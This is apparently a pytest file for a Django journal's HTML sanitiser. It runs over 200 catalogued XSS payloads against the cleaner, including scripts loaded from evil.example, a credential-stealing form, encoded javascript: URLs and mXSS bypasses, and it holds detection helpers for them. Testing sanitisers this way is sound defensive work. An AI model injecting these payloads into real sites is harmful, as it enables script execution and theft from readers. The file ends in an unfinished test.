"""The article body against known XSS payloads.

Bodies are rendered with `|safe`, so `clean_body_html()` (run in
`Article.save()`) is all that stands between what an editor's browser sends
and readers' browsers. Whatever comes in, the stored body may only hold the
elements and attributes we publish, links to http(s)/mailto or relative
addresses, and images from our own uploads.

The payloads come from the OWASP XSS filter evasion cheat sheet, PortSwigger's
XSS cheat sheet, html5sec.org and published sanitiser (mXSS) bypasses. A
payload the sanitiser lets through is kept here as a strict xfail with what
survives, never dropped: see SURVIVES and NOT_IDEMPOTENT.
"""

import re
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.conf import settings

from journal.models import Article
from journal.sanitiser import BODY_ATTRIBUTES, BODY_TAGS, clean_body_html
from journal.tests.factories import ArticleFactory, PublishedArticleFactory

DATA_HTML_B64 = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
DATA_SVG_B64 = (
    "data:image/svg+xml;base64,"
    "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="
)
JS_DECIMAL = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
JS_DECIMAL_PADDED = (
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058"
)
# javascript:alert(1) in hex references without semicolons (OWASP).
JS_HEX = (
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
    "&#x31&#x29"
)

# (id, payload). Grouped by technique; ids are the pytest ids.
PAYLOADS = [
    # --- <script> in every casing, spacing and encoding --------------------
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/xss.js"></script>'),
    ("script-slash-src", '<script/src="https://evil.example/xss.js"></script>'),
    ("script-slash-junk-src", '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>'),
    ("script-newline-attr", '<script\ntype="text/javascript">alert(1)</script>'),
    ("script-tab-attr", '<script\ttype="text/javascript">alert(1)</script>'),
    ("script-formfeed-attr", '<script\x0ctype="text/javascript">alert(1)</script>'),
    ("script-extra-lt", "<<SCRIPT>alert(1);//<</SCRIPT>"),
    ("script-unclosed", "<script>alert(1)//"),
    ("script-src-no-close", "<SCRIPT SRC=//evil.example/xss.js?< B >"),
    ("script-src-half-open", "<SCRIPT SRC=//evil.example/xss.js"),
    ("script-fromcharcode", "<script>alert(String.fromCharCode(88,83,83))</script>"),
    ("script-backticks", "<script>alert`1`</script>"),
    ("script-module", '<script type="module">import("https://evil.example/x.js")</script>'),
    ("script-split-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-in-paragraph", "<p>Text <script>alert(1)</script> more.</p>"),
    ("script-after-closing-p", "<p>x</p></p><script>alert(1)</script><p>"),
    ("script-equals-gt", '<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>'),
    ("script-attr-gt", '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>'),
    ("script-quoted-attr-gt", '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>'),
    ("script-backtick-attr-gt", '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>'),
    ("script-entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-url-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("script-utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("script-fullwidth", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("owasp-locator", "'';!--\"<XSS>=&{()}"),
    ("break-quote-script", "'\"><script>alert(1)</script>"),
    ("break-quote-img", '"><img src=x onerror=alert(1)>'),
    # --- Event handlers ------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-slash-separators", "<img/src=x/onerror=alert(1)>"),
    ("img-slash-before-handler", "<img src=x /onerror=alert(1)>"),
    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-onerror-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>"),
    ("img-triple-quote", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'),
    ("img-own-onerror", '<img src="/media/photo.jpg" onerror="alert(1)">'),
    ("img-own-onload", '<img src="/media/photo.jpg" onload="alert(1)">'),
    ("img-own-no-space-handler", '<img src="/media/photo.jpg"onerror="alert(1)">'),
    ("img-handler-entity-name", "<img src=x o&#110;error=alert(1)>"),
    ("image-alias", "<image src=x onerror=alert(1)>"),
    ("image-alias-own", '<image src="/media/a.png" onerror=alert(1)>'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-onload-upper", "<SVG ONLOAD=alert(1)>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-image-onerror", "<svg><image href=x onerror=alert(1)></svg>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onload-upper", "<BODY ONLOAD=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("select-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-onfocus", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("keygen-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("video-poster", "<video poster=javascript:alert(1)//></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("p-onclick", '<p onclick="alert(1)">click</p>'),
    ("p-onclick-upper", "<P ONCLICK=alert(1)>click</P>"),
    ("p-slash-onclick", "<p/onclick=alert(1)>click</p>"),
    ("p-newline-onclick", "<p\nonclick=alert(1)>click</p>"),
    ("a-onclick", '<a href="/x" onclick="alert(1)">x</a>'),
    ("a-onmouseover", "<a onmouseover=alert(1)>x</a>"),
    ("strong-onpointerover", "<strong onpointerover=alert(1)>x</strong>"),
    ("h2-onanimationstart", '<h2 onanimationstart=alert(1) style="animation-name:x">x</h2>'),
    ("blockquote-oncopy", "<blockquote oncopy=alert(1)>x</blockquote>"),
    ("figure-onfocusin", "<figure onfocusin=alert(1) tabindex=0>x</figure>"),
    ("li-onauxclick", "<ul><li onauxclick=alert(1)>x</li></ul>"),
    ("custom-element-onfocus", "<xss id=x tabindex=1 onfocus=alert(1)></xss>"),
    ("custom-element-onclick", "<x onclick=alert(1)>click"),
    # --- javascript: URLs ----------------------------------------------------
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-javascript-mixed-case", '<a href="jAvAsCrIpT:alert(1)">x</a>'),
    ("a-javascript-upper", '<a href="JAVASCRIPT:alert(1)">x</a>'),
    ("a-javascript-single-quotes", "<a href='javascript:alert(1)'>x</a>"),
    ("a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("a-javascript-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("a-javascript-decimal", f'<a href="{JS_DECIMAL}alert(1)">x</a>'),
    ("a-javascript-decimal-padded", f'<a href="{JS_DECIMAL_PADDED}alert(1)">x</a>'),
    ("a-javascript-hex", f'<a href="{JS_HEX}">x</a>'),
    ("a-javascript-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-javascript-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("a-javascript-cr-entity", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("a-javascript-named-tab", '<a href="jav&Tab;ascript:alert(1)">x</a>'),
    ("a-javascript-named-colon", '<a href="java&NewLine;script&colon;alert(1)">x</a>'),
    ("a-javascript-meta-chars", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("a-javascript-control-char", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-javascript-nul", '<a href="java\x00script:alert(1)">x</a>'),
    ("a-javascript-comment-newline", '<a href="javascript://%0Aalert(1)">x</a>'),
    ("a-javascript-void", '<a href="javascript:void(0)">x</a>'),
    ("a-javascript-duplicate-first", '<a href="javascript:alert(1)" href="/x">x</a>'),
    ("a-duplicate-javascript-second", '<a href="/x" href="javascript:alert(1)">x</a>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-javascript-upper", '<IFRAME SRC="javascript:alert(1);"></IFRAME>'),
    ("iframe-javascript-unquoted", "<iframe src=javascript:alert(1)>"),
    ("img-javascript", '<img src="javascript:alert(1)">'),
    ("img-javascript-mixed-case", "<IMG SRC=JaVaScRiPt:alert(1)>"),
    ("img-javascript-quot", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
    ("img-javascript-backticks", '<IMG SRC=`javascript:alert("XSS")`>'),
    ("img-javascript-tab-entity", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("img-javascript-half-open", '<IMG SRC="javascript:alert(1)"'),
    ("img-dynsrc", '<IMG DYNSRC="javascript:alert(1)">'),
    ("img-lowsrc", '<IMG LOWSRC="javascript:alert(1)">'),
    ("img-own-longdesc", '<img src="/media/a.png" longdesc="javascript:alert(1)">'),
    ("bgsound", '<BGSOUND SRC="javascript:alert(1);">'),
    ("table-background", '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD>x</TD></TR></TABLE>'),
    ("td-background", '<TABLE><TD BACKGROUND="javascript:alert(1)">x</TD></TABLE>'),
    ("area-javascript", '<map name="m"><area href="javascript:alert(1)" shape="rect"></map>'),
    ("input-image-javascript", '<input type="image" src="javascript:alert(1)">'),
    (
        "xml-island-comment-split",
        '<XML ID="x"><I><IMG SRC="javas<!-- -->cript:alert(1)"></I></XML>',
    ),
    # --- Forms, formaction ---------------------------------------------------
    ("form-action-javascript", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("form-action-foreign", '<form action="https://evil.example/steal"><input name=pw></form>'),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("button-formaction-bare", '<button formaction="javascript:alert(1)">x</button>'),
    ("input-formaction", '<input type="submit" formaction="javascript:alert(1)">'),
    ("isindex-action", "<isindex action=javascript:alert(1) type=submit>"),
    ("a-formaction", '<a href="https://example.org/" formaction="javascript:alert(1)">x</a>'),
    # --- data:, vbscript: and other schemes -----------------------------------
    ("a-data-html-base64", f'<a href="{DATA_HTML_B64}">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a-data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    ("a-data-leading-space", '<a href="  data:text/html,<script>alert(1)</script>">x</a>'),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("object-data-base64", f'<object data="{DATA_HTML_B64}"></object>'),
    ("embed-data-svg", f'<embed src="{DATA_SVG_B64}">'),
    ("img-data-svg", f'<img src="{DATA_SVG_B64}">'),
    ("img-data-png", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-vbscript-upper", '<a href="VBSCRIPT:msgbox(1)">x</a>'),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(1)'>"),
    ("a-livescript", '<a href="livescript:alert(1)">x</a>'),
    ("a-mocha", '<a href="mocha:alert(1)">x</a>'),
    ("a-file", '<a href="file:///etc/passwd">x</a>'),
    ("a-blob", '<a href="blob:https://evil.example/0f1e2d3c">x</a>'),
    ("a-ftp", '<a href="ftp://evil.example/x">x</a>'),
    # --- <svg> / <math> namespace confusion and mXSS ----------------------------
    (
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    ),
    ("svg-use-data", f'<svg><use href="{DATA_SVG_B64}#x"></use></svg>'),
    ("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a>"),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-p-style-img", "<svg><p><style><img src=x onerror=alert(1)>"),
    ("svg-close-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    (
        "svg-cdata-image",
        '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>',
    ),
    (
        "svg-foreignobject-srcdoc",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
        "</foreignObject></svg>",
    ),
    ("math-xlink-href", '<math><a xlink:href="javascript:alert(1)">x</a></math>'),
    ("math-href", '<math href="javascript:alert(1)">click</math>'),
    (
        "math-maction-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
    ),
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    ),
    (
        "math-mi-mglyph-style",
        "<math><mi><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    ),
    (
        "math-form-nesting",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "math-h1-svg-style",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src onerror=alert(1)>"></style></h1>',
    ),
    # --- <style>, style= and other stylesheet tricks -------------------------------
    ("style-url-javascript", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    (
        "style-list-image",
        '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>',
    ),
    ("style-expression", "<style>*{x:expression(alert(1))}</style>"),
    ("style-type-javascript", '<STYLE TYPE="text/javascript">alert(1);</STYLE>'),
    ("style-then-content", "<style>p{color:red}</style><p>x</p>"),
    ("style-closing-in-attr", '<style><img title="</style><img src=x onerror=alert(1)>"></style>'),
    ("style-attr-expression", '<div style="width: expression(alert(1));">x</div>'),
    ("style-attr-url-javascript", '<p style="background-image:url(javascript:alert(1))">x</p>'),
    ("style-attr-behavior", '<p style="behavior: url(xss.htc);">x</p>'),
    ("style-attr-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'),
    ("style-attr-split-expression", '<img src="/media/a.png" style="x:expr/**/ession(alert(1))">'),
    ("style-attr-entity", '<strong style="background:url(&#1;javascript:alert(1))">x</strong>'),
    (
        "style-attr-overlay",
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">Log in</p>',
    ),
    ("link-stylesheet", '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">'),
    ("link-import", '<link rel=import href="https://evil.example/x.html">'),
    # --- <meta>, <base>, <object>, <embed> and friends ---------------------------
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", f'<META HTTP-EQUIV="refresh" CONTENT="0;url={DATA_HTML_B64}">'),
    ("meta-refresh-foreign", '<meta http-equiv="refresh" content="0; URL=https://evil.example">'),
    (
        "meta-set-cookie",
        '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    ),
    ("base-javascript", '<base href="javascript:alert(1)//">'),
    ("base-foreign", '<base href="https://evil.example/">'),
    ("object-scriptlet", '<object type="text/x-scriptlet" data="https://evil.example/x.sct">'),
    (
        "object-param",
        '<object classid="clsid:ae24fdae"><param name="url" value="javascript:alert(1)"></object>',
    ),
    ("embed-swf", '<embed src="https://evil.example/x.swf" allowscriptaccess="always">'),
    ("applet", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("layer", '<LAYER SRC="https://evil.example/x.html"></LAYER>'),
    (
        "html-import-namespace",
        '<HTML xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc">'
        "<xss:xss>XSS</xss:xss></HTML>",
    ),
    # --- Foreign iframes, srcdoc, foreign images ----------------------------------
    ("iframe-foreign", '<iframe src="https://evil.example"></iframe>'),
    ("iframe-youtube", '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("p-srcdoc", '<p srcdoc="<script>alert(1)</script>">x</p>'),
    ("img-foreign-https", '<img src="https://evil.example/x.png">'),
    ("img-foreign-http", '<img src="http://evil.example/x.png">'),
    ("img-protocol-relative", '<img src="//evil.example/x.png">'),
    ("img-backslashes", '<img src="\\\\evil.example\\x.png">'),
    ("img-media-lookalike", '<img src="/media.evil.example/x.png">'),
    ("img-media-traversal", '<img src="/media/../admin/">'),
    ("img-media-encoded-traversal", '<img src="/media/%2e%2e/admin/">'),
    ("img-media-backslash-traversal", '<img src="/media/..\\admin/">'),
    ("img-srcset-foreign", '<img src="/media/a.png" srcset="https://evil.example/x.png 1x">'),
    (
        "picture-source-foreign",
        '<picture><source srcset="https://evil.example/x.png"><img src="/media/a.png"></picture>',
    ),
    ("a-ping", '<a href="https://example.org/" ping="https://evil.example/track">x</a>'),
    ("a-target-blank", '<a href="https://example.org/" target="_blank">x</a>'),
    ("a-rel-opener", '<a href="https://example.org/" rel="opener">x</a>'),
    ("a-xlink-href", '<a href="/x" xlink:href="javascript:alert(1)">x</a>'),
    # --- <template>, <noscript>, <noembed> and other raw-text mXSS tricks ----------
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("noembed-title", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    (
        "noframes-title",
        '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    ),
    ("iframe-title", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("xmp-title", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    (
        "textarea-title",
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    ),
    ("title-title", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("select-img", "<select><img src=x onerror=alert(1)></select>"),
    ("table-img", "<table><img src=x onerror=alert(1)></table>"),
    # --- Comments, CDATA, processing instructions ----------------------------------
    ("comment-img", "<!--<img src=x onerror=alert(1)>-->"),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("comment-abrupt", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("pi-script", "<? echo('<script>alert(1)</script>'); ?>"),
    ("xml-declaration-script", '<?xml version="1.0"?><script>alert(1)</script>'),
    ("doctype-script", "<!DOCTYPE html><script>alert(1)</script>"),
    ("comment-in-link", '<a href="/x"><!--</a><img src=x onerror=alert(1)>--></a>'),
    ("comment-in-alt", '<img src="/media/a.png" alt="<!--"><img src=x onerror=alert(1)>-->'),
    # --- Attribute-breaking quotes and malformed attributes -----------------------
    ("attr-break-title", '<a href="/x" title=\'"><script>alert(1)</script>\'>x</a>'),
    ("attr-break-alt", '<img src="/media/a.png" alt=\'"><img src=x onerror=alert(1)>\'>'),
    ("attr-no-space", '<a title="x" href="/y"onclick="alert(1)">x</a>'),
    ("attr-no-space-unquoted", '<a href="/x"title="y"onmouseover=alert(1)>x</a>'),
    ("attr-duplicate-alt", '<img alt="x" src="/media/a.png" alt="y" onerror=alert(1)>'),
    ("attr-handler-in-width", '<img src="/media/a.png" width="1 onerror=alert(1)">'),
    (
        "attr-escaped-title",
        '<a href="/x" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    ),
    ("attr-xmlns", '<a href="/x" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>'),
    # --- Unclosed and truncated tags ---------------------------------------------
    ("unclosed-img-eof", "<img src=x onerror=alert(1)"),
    ("unclosed-img-comment", "<img src=x onerror=alert(1)//"),
    ("unclosed-href", '<a href="javascript:alert(1)'),
    ("unclosed-iframe-lt", "<iframe src=https://evil.example <"),
    ("unclosed-a-img", "<a href=/x <img src=x onerror=alert(1)>"),
    ("unclosed-p-img", "<p>x<img src=x onerror=alert(1) <p>y</p>"),
    ("lt-before-end-tag", "<</p>img src=x onerror=alert(1)>"),
]

# Payloads known to get through clean_body_html() (id -> what survives), and
# payloads for which cleaning twice differs from cleaning once. Each entry is
# run as a strict xfail, so a fix shows up as XPASS. None at present: image
# paths are normalised before the /media/ check, and paragraphs are added
# after sanitising.
SURVIVES: dict[str, str] = {}
NOT_IDEMPOTENT: dict[str, str] = {}

# Payloads that leave an escaped, inert mention of a marker in the rendered
# body (text readers see, or the value of a title/alt/width attribute). The
# rendered body's live markup is checked for them like for every payload.
INERT_MENTIONS = {
    "script-split-nested": "'ipt>alert(1)ipt>' is left as text",
    "script-entity-encoded": "already escaped: it is text",
    "script-url-encoded": "percent-encoded: it is text",
    "script-utf7": "UTF-7: it is text (the page is UTF-8)",
    "script-fullwidth": "fullwidth brackets: it is text",
    "a-javascript-nul": "the NUL becomes U+FFFD: 'java\ufffdscript:alert(1)' is a relative address",
    "plaintext": "the rest of <plaintext> is text",
    "cdata-script": "CDATA in HTML is a bogus comment up to the first '>', the rest text",
    "pi-script": "a processing instruction is a bogus comment up to the first '>'",
    "lt-before-end-tag": "'img src=x onerror=alert(1)>' is text",
    "attr-break-title": "the payload stays inside the title value, escaped",
    "attr-escaped-title": "the payload stays inside the title value, escaped",
    "attr-break-alt": "the payload stays inside the alt value, escaped",
    "attr-handler-in-width": "the payload stays inside the width value, escaped",
}

ALLOWED_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "srcset", "ping", "longdesc", "dynsrc", "lowsrc", "cite", "codebase", "srcdoc",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "xlink:href"}
LINK_REL = "noopener noreferrer"
MARKERS = (
    "alert(", "onerror", "onload", "javascript:", "vbscript:", "data:", "expression(", "script",
    "srcdoc", "formaction",
)  # fmt: skip
SITE = "https://journal.test/"


def cases(known_failures: dict[str, str], *, leave_out=()) -> list:
    return [
        pytest.param(
            payload,
            id=name,
            marks=pytest.mark.xfail(strict=True, reason=known_failures[name])
            if name in known_failures
            else (),
        )
        for name, payload in PAYLOADS
        if name not in leave_out
    ]


class Fragment(HTMLParser):
    """What a browser builds from some HTML: elements and attributes, text, the rest."""

    def __init__(self, source: str):
        super().__init__(convert_charrefs=True)
        self.start_tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.other: list[str] = []  # comments, declarations, processing instructions
        self.text: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.start_tags.append((tag, attrs))

    def handle_endtag(self, tag):
        self.end_tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.other.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")

    def live_markup(self) -> str:
        """What a browser acts on rather than shows, lowercased.

        Tag and attribute names, the scheme of every address, and anything
        that is not an element or text. Text, and the values of attributes
        such as title or alt, are only ever shown.
        """
        parts = list(self.other)
        for tag, attrs in self.start_tags:
            parts.append(tag)
            for name, value in attrs:
                parts.append(name)
                if name in URL_ATTRIBUTES:
                    parts.append(f"{url_scheme(value or '')}:")
        parts += self.end_tags
        return " ".join(parts).lower()


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in `value`, lowercased; None for a relative address.

    HTMLParser has already unescaped character references once, as a browser
    does. Browsers also ignore tabs and newlines anywhere in a URL and spaces
    and control characters around it; to be safe this drops all whitespace and
    control/format characters wherever they are.
    """
    squeezed = "".join(
        ch for ch in value if not ch.isspace() and unicodedata.category(ch) not in {"Cc", "Cf"}
    )
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", squeezed)
    return match.group(1).lower() if match else None


def is_own_image(src: str) -> bool:
    """Whether a browser would load `src` from under MEDIA_URL on our own site.

    Browsers treat a backslash as a slash and "%2e" as a dot, and resolve dot
    segments, before fetching.
    """
    squeezed = re.sub(r"[\t\n\r]", "", src).replace("\\", "/")
    squeezed = re.sub(r"%2e", ".", squeezed, flags=re.IGNORECASE)
    resolved = urlsplit(urljoin(SITE, squeezed))
    return (
        src.startswith(settings.MEDIA_URL)
        and f"{resolved.scheme}://{resolved.netloc}/" == SITE
        and resolved.path.startswith(settings.MEDIA_URL)
    )


def problems(cleaned: str) -> list[str]:
    """Everything in `cleaned` that breaks the body policy; empty when it is safe."""
    fragment = Fragment(cleaned)
    found = [f"markup other than elements: {other!r}" for other in fragment.other]
    found += [f"element </{tag}>" for tag in fragment.end_tags if tag not in BODY_TAGS]
    for tag, attrs in fragment.start_tags:
        if tag not in BODY_TAGS:
            found.append(f"element <{tag}>")
        allowed = BODY_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"event handler <{tag} {name}={value!r}>")
            if name in FORBIDDEN_ATTRIBUTES or ":" in name:
                found.append(f"forbidden attribute <{tag} {name}={value!r}>")
            if name not in allowed:
                found.append(f"attribute outside the allowlist <{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in ALLOWED_SCHEMES:
                    found.append(f"{scheme}: URL <{tag} {name}={value!r}>")
            if tag == "img" and name == "src" and not is_own_image(value):
                found.append(f"image not from our uploads <img src={value!r}>")
        if tag == "a" and dict(attrs).get("rel") != LINK_REL:
            found.append(f"link without rel={LINK_REL!r}: {attrs!r}")
    return found


def body_element(page: str) -> str:
    """The inside of the article's `<div class="body">` on a rendered page.

    Bodies may not contain a <div>, so the first </div> closes it.
    """
    match = re.search(r'<div class="body">(.*?)</div>', page, flags=re.DOTALL)
    assert match, "no article body on the page"
    return match.group(1)


def test_the_checks_catch_what_they_are_for():
    # The checks themselves, on markup the sanitiser should never let out.
    assert problems('<p>Safe <a href="/x" rel="noopener noreferrer">link</a></p>') == []
    for unsafe in [
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        '<p style="color:red">x</p>',
        '<a href="jav&#x09;ascript:alert(1)" rel="noopener noreferrer">x</a>',
        '<a href=" \x01JavaScript:alert(1)" rel="noopener noreferrer">x</a>',
        '<a href="data:text/html,x" rel="noopener noreferrer">x</a>',
        '<a href="/x">no rel</a>',
        '<img src="https://evil.example/x.png">',
        '<img src="/media/../admin/">',
        '<img src="/media/x.png" srcdoc="x">',
        "<p>x</p><!-- comment -->",
    ]:
        assert problems(unsafe), unsafe
    assert "onerror" not in Fragment("<p>onerror=alert(1)</p>").live_markup()
    assert "javascript:" in Fragment('<a href="JavaScript:x">x</a>').live_markup()


def test_the_list_is_long_and_ids_are_unique():
    names = [name for name, _ in PAYLOADS]
    assert len(names) >= 100
    assert len(set(names)) == len(names)
    for known in (SURVIVES, NOT_IDEMPOTENT, INERT_MENTIONS):
        assert set(known) <= set(names)


@pytest.mark.parametrize("payload", cases(SURVIVES))
def test_payload_is_neutralised(payload):
    cleaned = clean_body_html(payload)

    assert problems(cleaned) == [], cleaned


@pytest.mark.parametrize("payload", cases(NOT_IDEMPOTENT))
def test_cleaning_is_idempotent(payload):
    once = clean_body_html(payload)

    assert clean_body_html(once) == once


@pytest.mark.django_db
@pytest.mark.parametrize("payload", cases(SURVIVES))
def test_saved_body_is_clean_whatever_the_editor_sends(payload):
    # The factory saves without full_clean(), as a script or API client could:
    # the sanitiser must not depend on the form refusing anything first.
    article = ArticleFactory(body=payload)
    article.refresh_from_db()

    assert article.body == clean_body_html(payload)
    assert problems(article.body) == [], article.body


@pytest.mark.django_db
@pytest.mark.parametrize("payload", cases(SURVIVES))
def test_article_page_renders_no_live_payload(client, payload):
    article = PublishedArticleFactory(body=f"<p>Before.</p>{payload}")

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    body = body_element(response.content.decode())
    assert body.startswith("<p>Before.</p>")
    assert problems(body) == [], body
    live = Fragment(body).live_markup()
    assert [marker for marker in MARKERS if marker in live] == [], body


@pytest.mark.django_db
@pytest.mark.parametrize("payload", cases(SURVIVES, leave_out=INERT_MENTIONS))
def test_article_page_does_not_even_mention_the_payload(client, payload):
    article = PublishedArticleFactory(body=f"<p>Before.</p>{payload}")

    response = client.get(article.get_absolute_url())

